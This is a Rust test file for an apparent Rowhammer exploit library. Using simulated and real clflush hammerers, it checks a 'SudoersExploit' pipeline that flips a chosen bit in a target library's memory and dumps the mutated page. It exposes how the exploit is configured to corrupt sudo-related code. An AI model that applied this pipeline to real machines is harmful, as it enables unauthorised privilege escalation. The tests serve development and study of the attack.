use std::fs;
use std::path::PathBuf;
use std::time::Duration;

use anyhow::Result;
use peen::allocator::RegionAllocator;
use peen::config::{HammerConfig, MergeWait, ScanMode};
use peen::exploit::SudoersExploit;
use peen::memory::{BytePointer, DramConfig, Memory, VictimBuffer};
use peen::opcodes::FlipDirection;
use peen::util::{HUGE_PAGE_SIZE, MAX_REGIONS, PAGE_SIZE};
use peen::{Peen, RunOutcome};
use peen_clflush::ClflushHammer;
use peen_dummy::{Dummy, FlipSpec};

fn init_logging() {
    let _ = env_logger::builder().is_test(true).try_init();
}

fn scratch_path(name: &str) -> PathBuf {
    let mut path = std::env::temp_dir();
    path.push(format!("peen-{}-{}", name, std::process::id()));
    path
}

/// Writes a scratch library whose byte at `opcode_offset` is `opcode_byte`.
fn scratch_library(opcode_offset: usize, opcode_byte: u8) -> Result<PathBuf> {
    let path = scratch_path("library");
    let mut bytes = vec![0x90u8; 0x9000];
    bytes[opcode_offset] = opcode_byte;
    fs::write(&path, &bytes)?;
    Ok(path)
}

fn pipeline_config(library: PathBuf, dump: PathBuf) -> HammerConfig {
    HammerConfig {
        num_row_activations: 1,
        hammering_rounds: 1,
        mode: ScanMode::FlipSudoers,
        merge_wait: MergeWait::Sleep(Duration::ZERO),
        target_library: library,
        dump_path: dump,
        ..HammerConfig::default()
    }
}

#[test]
fn test_flip_pipeline_with_dummy_hammer() -> Result<()> {
    init_logging();
    let memory = Memory::mmap(HUGE_PAGE_SIZE)?;
    memory.fill(0xFF);
    memory.add_entropy();
    let dram = DramConfig::ddr3();

    // bit 0 of library byte 0x8dcf must go from 0 to 1
    let library = scratch_library(0x8dcf, 0x4c)?;
    let dump = scratch_path("dump");
    let config = pipeline_config(library.clone(), dump.clone());
    let hammerer = Dummy::new(
        memory.ptr(),
        dram.clone(),
        FlipSpec {
            row_offset: 0xdcf,
            bit: 0,
            direction: FlipDirection::ZeroToOne,
        },
    );

    let exploit = SudoersExploit::new(&memory, &dram, &config, &hammerer);
    let flip = exploit.run()?;
    assert_eq!(flip.file_offset, 0x8dcf);
    assert_eq!(flip.original, 0x4c);
    assert_eq!(flip.mutated, 0x4d);

    // the dump holds the whole mutated page as two-hex-digit bytes
    let dumped = fs::read_to_string(&dump)?;
    assert_eq!(dumped.trim().len(), 2 * PAGE_SIZE);
    assert_eq!(&dumped[2 * 0xdcf..2 * 0xdcf + 2], "4d");

    memory.dealloc();
    fs::remove_file(&library)?;
    fs::remove_file(&dump)?;
    Ok(())
}

/// Hands out one pre-mapped region, then reports itself exhausted.
struct OneShotAllocator {
    memory: Option<Memory>,
}

impl RegionAllocator for OneShotAllocator {
    type Error = std::io::Error;

    fn map_region(&mut self, _index: usize) -> Result<Memory, Self::Error> {
        self.memory
            .take()
            .ok_or_else(|| std::io::Error::other("no regions left"))
    }
}

#[test]
fn test_real_hammer_loop_through_the_scanner() -> Result<()> {
    init_logging();
    // a handful of activations on plain mapped memory flips nothing, but the
    // whole scanner / hammer / check stack runs for real
    let memory = Memory::mmap(HUGE_PAGE_SIZE)?;
    let dram = DramConfig::ddr3();
    let config = HammerConfig {
        num_row_activations: 16,
        hammering_rounds: 1,
        mode: ScanMode::Bank(0),
        ..HammerConfig::default()
    };
    let peen = Peen::builder()
        .allocator(OneShotAllocator {
            memory: Some(memory),
        })
        .hammerer(ClflushHammer::default())
        .dram(dram)
        .config(config)
        .build()?;
    let report = peen.run();
    assert!(matches!(report.outcome, RunOutcome::Scanned(None)));
    Ok(())
}

#[test]
fn test_orchestrated_bank_scan_finds_template() -> Result<()> {
    init_logging();
    let memory = Memory::mmap(HUGE_PAGE_SIZE)?;
    let dram = DramConfig::ddr3();
    let hammerer = Dummy::new(
        memory.ptr(),
        dram.clone(),
        FlipSpec {
            row_offset: 0xdcf,
            bit: 0,
            direction: FlipDirection::ZeroToOne,
        },
    );
    let config = HammerConfig {
        num_row_activations: 1,
        hammering_rounds: 1,
        mode: ScanMode::Bank(0),
        ..HammerConfig::default()
    };

    let peen = Peen::builder()
        .allocator(OneShotAllocator {
            memory: Some(memory),
        })
        .hammerer(hammerer)
        .dram(dram)
        .config(config)
        .build()?;
    let report = peen.run();
    assert_eq!(report.regions_tried, 1);
    match report.outcome {
        RunOutcome::Scanned(Some(template)) => {
            assert_eq!(template.op.file_offset, 0x8dcf);
            assert_eq!(template.op.bit_index, 0);
        }
        other => panic!("expected a template, got {:?}", other),
    }
    Ok(())
}

/// Never maps anything, so every region attempt fails.
struct FailingAllocator;

impl RegionAllocator for FailingAllocator {
    type Error = std::io::Error;

    fn map_region(&mut self, index: usize) -> Result<Memory, Self::Error> {
        Err(std::io::Error::other(format!(
            "region {} unavailable",
            index
        )))
    }
}

#[test]
fn test_exhausted_run_without_mappable_regions() -> Result<()> {
    init_logging();
    let config = HammerConfig {
        mode: ScanMode::FlipSudoers,
        ..HammerConfig::default()
    };
    let peen = Peen::builder()
        .allocator(FailingAllocator)
        .hammerer(Dummy::new(
            std::ptr::null(),
            DramConfig::ddr3(),
            FlipSpec {
                row_offset: 0,
                bit: 0,
                direction: FlipDirection::ZeroToOne,
            },
        ))
        .config(config)
        .build()?;
    let report = peen.run();
    assert_eq!(report.regions_tried, MAX_REGIONS);
    assert!(matches!(report.outcome, RunOutcome::Exhausted));
    Ok(())
}
